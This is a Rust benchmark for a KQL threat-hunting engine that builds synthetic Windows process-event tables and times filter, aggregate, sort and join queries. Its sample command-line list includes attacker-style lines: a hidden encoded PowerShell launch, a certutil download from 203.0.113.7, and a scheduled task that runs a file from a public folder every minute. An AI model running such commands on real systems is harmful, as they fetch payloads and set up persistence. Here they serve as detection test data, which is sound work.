//! The local engine over 100,000 rows of DeviceProcessEvents-shaped data (and a 10,000-row
//! DeviceInfo to join with): `where ... has`, `summarize count() by` a string column,
//! `sort by` a datetime, and an inner `join`. The same data is written as CSV to
//! `target/bench-data/` so `benches/compare_duckdb.py` runs the same operations in DuckDB
//! and pandas for the ratios in the notes.
//! Run: `cargo bench --bench engine`, then `python3 benches/compare_duckdb.py`.

use std::hint::black_box;
use std::path::PathBuf;

use criterion::{Criterion, criterion_group, criterion_main};
use kqlhunt::data::column::column_from_values;
use kqlhunt::data::export::{Format, write};
use kqlhunt::data::time::{TICKS_PER_DAY, days_from_civil};
use kqlhunt::data::{Column, Kind, Table, Value};
use kqlhunt::engine::{Catalog, ExecContext, execute};

const EVENTS: usize = 100_000;
const DEVICES: usize = 10_000;
/// 2026-11-01T00:00:00Z in ticks since the Unix epoch: the first event's day.
fn t0() -> i64 {
    days_from_civil(2026, 11, 1) * TICKS_PER_DAY
}

/// A small deterministic generator (xorshift), so Rust and Python see the same rows.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

const FILES: &[&str] = &[
    "powershell.exe",
    "cmd.exe",
    "svchost.exe",
    "rundll32.exe",
    "chrome.exe",
    "msedge.exe",
    "explorer.exe",
    "wmiprvse.exe",
    "conhost.exe",
    "reg.exe",
    "schtasks.exe",
    "certutil.exe",
];
const PARENTS: &[&str] = &["explorer.exe", "services.exe", "winword.exe", "cmd.exe"];
const ARGS: &[&str] = &[
    "-NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA",
    "/c whoami /all",
    "-k netsvcs -p -s Schedule",
    "C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
    "--type=renderer --lang=en-US",
    "/create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute",
    "-urlcache -split -f http://203.0.113.7/a.txt",
    "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
];
const ACCOUNTS: &[&str] = &["system", "jhale", "amartin", "svc_backup", "local service"];

fn strings(values: impl IntoIterator<Item = String>) -> Vec<Value> {
    values.into_iter().map(Value::String).collect()
}

fn process_events() -> Table {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let mut ts = Vec::with_capacity(EVENTS);
    let (mut dev, mut name, mut file, mut cmd, mut acct, mut parent, mut sha) = (
        Vec::new(),
        Vec::new(),
        Vec::new(),
        Vec::new(),
        Vec::new(),
        Vec::new(),
        Vec::new(),
    );
    for _ in 0..EVENTS {
        let d = rng.next() % DEVICES as u64;
        let f = rng.pick(FILES);
        ts.push(Value::DateTime(
            t0() + (rng.next() % (30 * TICKS_PER_DAY as u64)) as i64,
        ));
        dev.push(format!("{d:040x}"));
        name.push(format!("wks-{d:05}.contoso.com"));
        file.push(f.to_string());
        cmd.push(format!("{f} {}", rng.pick(ARGS)));
        acct.push(rng.pick(ACCOUNTS).to_string());
        parent.push(rng.pick(PARENTS).to_string());
        sha.push(format!(
            "{:016x}{:016x}{:08x}",
            rng.next(),
            rng.next(),
            rng.next() as u32
        ));
    }
    Table::new(vec![
        Column::new("Timestamp", column_from_values(Kind::DateTime, ts)),
        Column::new("DeviceId", column_from_values(Kind::String, strings(dev))),
        Column::new(
            "DeviceName",
            column_from_values(Kind::String, strings(name)),
        ),
        Column::new("FileName", column_from_values(Kind::String, strings(file))),
        Column::new(
            "ProcessCommandLine",
            column_from_values(Kind::String, strings(cmd)),
        ),
        Column::new(
            "AccountName",
            column_from_values(Kind::String, strings(acct)),
        ),
        Column::new(
            "InitiatingProcessFileName",
            column_from_values(Kind::String, strings(parent)),
        ),
        Column::new("SHA1", column_from_values(Kind::String, strings(sha))),
    ])
    .expect("columns of equal length")
}

fn device_info() -> Table {
    let mut rng = Rng(0xD1B5_4A32_D192_ED03);
    let os = ["Windows11", "Windows10", "WindowsServer2022", "Linux"];
    Table::new(vec![
        Column::new(
            "DeviceId",
            column_from_values(
                Kind::String,
                strings((0..DEVICES).map(|d| format!("{d:040x}"))),
            ),
        ),
        Column::new(
            "OSPlatform",
            column_from_values(
                Kind::String,
                strings((0..DEVICES).map(|_| rng.pick(&os).to_string())),
            ),
        ),
        Column::new(
            "ExposureLevel",
            column_from_values(
                Kind::String,
                strings((0..DEVICES).map(|_| rng.pick(&["Low", "Medium", "High"]).to_string())),
            ),
        ),
    ])
    .expect("columns of equal length")
}

/// Write the tables once for `compare_duckdb.py`.
fn write_csv(name: &str, table: &Table) {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/bench-data");
    let path = dir.join(format!("{name}.csv"));
    if path.exists() {
        return;
    }
    std::fs::create_dir_all(&dir).expect("bench-data dir");
    let mut out = std::io::BufWriter::new(std::fs::File::create(&path).expect("csv file"));
    write(table, Format::Csv, &mut out).expect("csv written");
}

/// The operations, as KQL; `compare_duckdb.py` holds their SQL and pandas twins.
pub const QUERIES: &[(&str, &str)] = &[
    (
        "where_has",
        "DeviceProcessEvents | where ProcessCommandLine has \"encodedcommand\"",
    ),
    (
        "summarize_count_by",
        "DeviceProcessEvents | summarize count() by FileName",
    ),
    (
        "sort_by_datetime",
        "DeviceProcessEvents | sort by Timestamp desc",
    ),
    (
        "join_100k_10k",
        "DeviceProcessEvents | join kind=inner (DeviceInfo) on DeviceId",
    ),
];

fn engine(c: &mut Criterion) {
    let events = process_events();
    let info = device_info();
    write_csv("DeviceProcessEvents", &events);
    write_csv("DeviceInfo", &info);
    let catalog = Catalog::from_tables([
        ("DeviceProcessEvents".to_string(), events),
        ("DeviceInfo".to_string(), info),
    ]);
    let ctx = ExecContext {
        now: t0() + 31 * TICKS_PER_DAY,
        ..ExecContext::default()
    };
    let mut group = c.benchmark_group("engine_100k");
    group.sample_size(20);
    for (name, query) in QUERIES {
        // Fail loudly (once) rather than time an error path.
        let rows = execute(&catalog, query, &ctx)
            .unwrap_or_else(|e| panic!("{name}: {e}"))
            .table
            .row_count();
        eprintln!("{name}: {rows} rows");
        group.bench_function(*name, |b| {
            b.iter(|| black_box(execute(&catalog, query, &ctx).expect("runs")))
        });
    }
    group.finish();
}

criterion_group!(benches, engine);
criterion_main!(benches);
